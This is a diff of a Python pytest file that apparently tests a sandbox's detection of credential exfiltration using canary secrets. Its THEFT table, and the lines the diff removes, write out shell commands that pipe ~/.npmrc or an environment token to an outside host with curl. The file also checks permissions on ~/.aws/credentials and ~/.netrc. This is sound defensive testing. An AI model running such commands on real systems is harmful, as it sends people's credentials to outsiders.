@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from pathlib import Path
 
 import pytest
@@ -16,24 +17,32 @@ from tests.world.internet import API
 pytestmark = pytest.mark.root
 
 
-def test_a_step_that_takes_them_is_cut_and_ended(machine: Machine) -> None:
+SEND = "curl -sS https://api.example.com/"
+THEFT = {
+    "a file": (f"cat ~/.npmrc | {SEND} --data-binary @-", "~/.npmrc (canary)"),
+    "a variable, tried out": (f'{SEND} -H "Authorization: token ${VARIABLES[0]}"', f"{VARIABLES[0]} (canary)"),
+}
+
+
+@pytest.mark.parametrize("name", THEFT)
+def test_a_step_that_takes_one_is_cut_and_ended(machine: Machine, name: str) -> None:
+    script, secret = THEFT[name]
     with Job(machine, allow="api.example.com", canary="true") as job:
         assert set(VARIABLES) <= job.environment.keys()
         look = job.step(["sh", "-c", "stat -c '%U %a' ~/.aws/credentials ~/.npmrc ~/.netrc ~/.aws"])
         assert look.stdout.split("\n")[:4] == ["runner 600"] * 3 + ["runner 700"]
-        taken = ["sh", "-c", "cat ~/.npmrc | curl -sS --data-binary @- https://api.example.com/; sleep 60"]
-        stolen = job.step(taken, name="theft", timeout=45)
+        # A busy machine may need to be asked twice for a name. Once it is answered, there is time to be ended in.
+        stolen = job.step(["sh", "-c", f"until {script}; do sleep 1; done; sleep 80"], name="theft", timeout=75)
         assert stolen.code != 0
         assert machine.world.received(API).strip() == b""
-        tried = job.step(["sh", "-c", f'curl -sS -H "Authorization: token ${VARIABLES[0]}" https://api.example.com/'], name="try")
-        assert tried.code != 0 or "secret" in tried.stdout
+        deadline = time.monotonic() + 30
+        while not any(one["findings"] for one in job.events("Exchange")):
+            assert time.monotonic() < deadline
+            time.sleep(0.1)
         verdict = job.verdict()
+        assert verdict.report, verdict.stderr + verdict.stdout
     leaks = [one for one in verdict.report["incidents"] if one["kind"] == "exfiltration"]
-    assert {(one["credential"], one["secret"]) for one in leaks} == {
-        (CANARY, "~/.npmrc (canary)"),
-        (CANARY, f"{VARIABLES[0]} (canary)"),
-    }
-    assert {one["origin"]["step"]["name"] for one in leaks} == {"theft", "try"}
+    assert {(one["credential"], one["secret"], one["origin"]["step"]["name"]) for one in leaks} == {(CANARY, secret, "theft")}
     assert "canary" in verdict.stdout
     assert machine.sh(f"ls -A {HOME}").stdout.split() == ["work"], "nothing is left behind"
 
